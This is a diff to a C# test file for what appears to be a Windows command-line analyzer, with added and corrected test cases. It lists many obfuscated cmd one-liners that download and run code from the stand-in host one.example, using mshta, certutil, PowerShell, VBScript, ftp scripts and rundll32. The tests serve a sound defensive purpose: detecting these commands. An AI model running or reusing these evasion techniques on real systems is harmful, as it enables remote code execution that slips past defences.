@@ -46,7 +46,7 @@ public sealed class CommandLineTests
         "cmd /v /c \"set u=http://one.example/a&&set p=mshta&&!p! !u!\"",
         "cmd /c echo mshta http://one.example/a|cmd",
         "cmd /c \"echo mshta http://one.example/a | cmd.exe\"",
-        ",;cmd.exe,;/c,;(((mshta,; http://one.example/a)))",
+        ",;cmd.exe,;/c,;(((mshta http://one.example/a)))",
         "cmd /c \"for %a in (mshta) do %a http://one.example/a\"",
         "cmd /c \"FOR /F \"delims=s\\ tokens=4\" %a IN ('set^|findstr PSM')DO %a -c iwr http://one.example/a\"",
         "cmd /c \"for /f \"tokens=2 delims==f\" %f in ('assoc .cmd') do %f /c mshta http://one.example/a\"",
@@ -54,15 +54,14 @@ public sealed class CommandLineTests
         "cmd /c %comspec:~-7,3% /c mshta http://one.example/a",
         "cmd /c \"set q=mXhta http://one.eXample/a&&call set q=%q:mX=ms%&&call %q:eX=ex%\"",
         "cmd /c \"for /f %i in (\"mshta\") do %i http://one.example/a\"",
-        "cmd /q /d /s /v:on /c\"set \"z=xatshm\"&for %i in (5,4,3,2,1) do @set k=!k!!z:~%i,1!& if %i==1 !k:~-5! http://one.example/a\"",
+        "cmd /q /d /s /v:on /c\"set \"z=xathsm\"&for %i in (5,4,3,2,1) do @set k=!k!!z:~%i,1!& if %i==1 !k:~-5! http://one.example/a\"",
         "cmd/c\"mshta http://one.example/a\"",
         "cmd /c (mshta http://one.example/a)",
         "cmd /c echo x>nul & @mshta http://one.example/a",
         "cmd /c if exist c:\\windows (mshta http://one.example/a) else (calc)",
         "cmd /c ping -n 3 127.0.0.1 > nul & mshta http://one.example/a",
         "cmd /c copy /y %windir%\\system32\\certutil.exe %temp%\\ct.exe & %temp%\\ct.exe -urlcache -f http://one.example/a b.txt",
-        "cmd /c \"echo CreateObject(\"MSXML2.XMLHTTP\").Open \"GET\",\"http://one.example/a\",0 > %temp%\\q.vbs & wscript %temp%\\q.vbs\"",
-        "cmd /c \"echo open one.example>f.txt&echo get a>>f.txt&ftp -s:f.txt & rem http://one.example/a\"",
+        "cmd /c \"(echo mshta)>f.txt&for /f %q in (f.txt) do %q http://one.example/a\"",
     ];
 
     [Theory]
@@ -96,6 +95,13 @@ public sealed class CommandLineTests
     [InlineData("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://one.example/a\")", FileType.JavaScript)]
     [InlineData("mshta \"about:<hta:application><script>x()</script>\"", FileType.Hta)]
     public void Script_in_an_argument_is_a_file_of_its_language(string line, FileType type) => Evaluated.Command(line).Artifacts.ShouldContain(file => file.Type == type && file.Origin == "decoded");
+
+    [Fact]
+    public void A_script_that_a_command_writes_and_runs_is_a_file_of_its_language() =>
+        Evaluated.Command("cmd /c \"echo MsgBox 1 > %temp%\\q.vbs & wscript %temp%\\q.vbs\"").Artifacts.ShouldContain(file => file.Type == FileType.VbScript && file.Origin == "decoded");
+
+    [Fact]
+    public void A_script_of_ftp_tells_what_is_fetched() => Evaluated.Command("cmd /c \"echo open one.example>f.txt&echo get a b.exe>>f.txt&ftp -s:f.txt&b.exe\"").ShouldFetch("ftp://one.example/a");
 
     [Theory]
     [InlineData(@"\\host.example@80\davwwwroot\a.dll", "http://host.example/davwwwroot/a.dll")]
